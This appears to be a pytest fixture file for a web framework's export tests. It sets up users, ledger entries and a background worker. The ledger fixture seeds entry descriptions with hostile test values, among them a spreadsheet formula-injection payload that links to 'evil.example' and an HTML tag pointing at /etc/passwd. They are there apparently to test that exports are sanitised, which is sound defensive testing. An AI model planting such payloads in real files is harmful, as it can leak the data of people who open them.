"""The export tests: the test project with sessions, auth and CSRF, and its ledger app."""

import datetime
import decimal

import pytest

EXPORT_MIDDLEWARE = [
    "rustforge.http.middleware.SecurityMiddleware",
    "rustforge.contrib.auth.middleware.SessionMiddleware",
    "rustforge.contrib.auth.middleware.AuthenticationMiddleware",
    "rustforge.contrib.auth.csrf.CsrfMiddleware",
]


@pytest.fixture(autouse=True)
def export_settings(settings, tmp_path):
    settings.MIDDLEWARE = EXPORT_MIDDLEWARE
    settings.PASSWORD_ARGON2 = {"memory_cost": 1024, "rounds": 1, "parallelism": 1}
    settings.STORAGE_ROOT = str(tmp_path / "storage")
    settings.REDIS_URL = ""
    return settings


@pytest.fixture
def ledger(make_user):
    """Two users with an account each: ada (ten entries, some hostile) and bob (three)."""
    from testproject.ledger.models import Account, Entry

    from rustforge.contrib.auth.permissions import grant

    ada = make_user("ada")
    bob = make_user("bob")
    grant(ada, "ledger.view_entry")
    grant(bob, "ledger.view_entry")
    ada_account = Account.create(name="Ada's cash", owner_id=ada.id)
    bob_account = Account.create(name="Bob's bank", owner_id=bob.id)
    descriptions = ["Coffee", "=HYPERLINK(\"http://evil.example/?\"&A1)", "+1+2", "-2+3",
                    "@SUM(A1:A2)", "\tTabbed", "\rReturned", "Привет, мир", "Ünïcödé — ok",
                    "<b>bold</b> & <img src=\"/etc/passwd\"/>"]
    Entry.insert_many([
        {"account": ada_account.id, "description": text, "memo": "note " * i,
         "amount": decimal.Decimal(f"{-5 + i}.25"), "quantity": i,
         "booked_on": datetime.date(2026, 1, 1 + i), "cleared": i % 2 == 0}
        for i, text in enumerate(descriptions)]).execute()
    Entry.insert_many([
        {"account": bob_account.id, "description": f"Bob {i}", "amount": decimal.Decimal("1.00"),
         "booked_on": datetime.date(2026, 2, 1)} for i in range(3)]).execute()
    return {"ada": ada, "bob": bob, "descriptions": descriptions}


@pytest.fixture
def ada_client(client, ledger, login):
    login(client, ledger["ada"])
    return client


@pytest.fixture
def rq_worker(redis_url, test_database_url, settings):
    """``run()`` runs ``manage.py rqworker --burst`` in a subprocess on the test's
    database, Redis and storage; the app enqueues to the same Redis."""
    import os
    import subprocess
    import sys
    from pathlib import Path

    settings.REDIS_URL = redis_url
    tests = Path(__file__).resolve().parents[2]
    env = {**os.environ, "RUSTFORGE_SETTINGS_MODULE": "testproject.worker_settings",
           "PYTHONPATH": os.pathsep.join([str(tests), os.environ.get("PYTHONPATH", "")]),
           "DATABASE_URL": test_database_url, "REDIS_URL": redis_url,
           "STORAGE_ROOT": str(settings.STORAGE_ROOT)}
    script = str(Path(sys.executable).parent / "rustforge")

    def run():
        return subprocess.run([script, "rqworker", "--burst"], env=env, capture_output=True,
                              text=True, timeout=120, check=False)

    return run
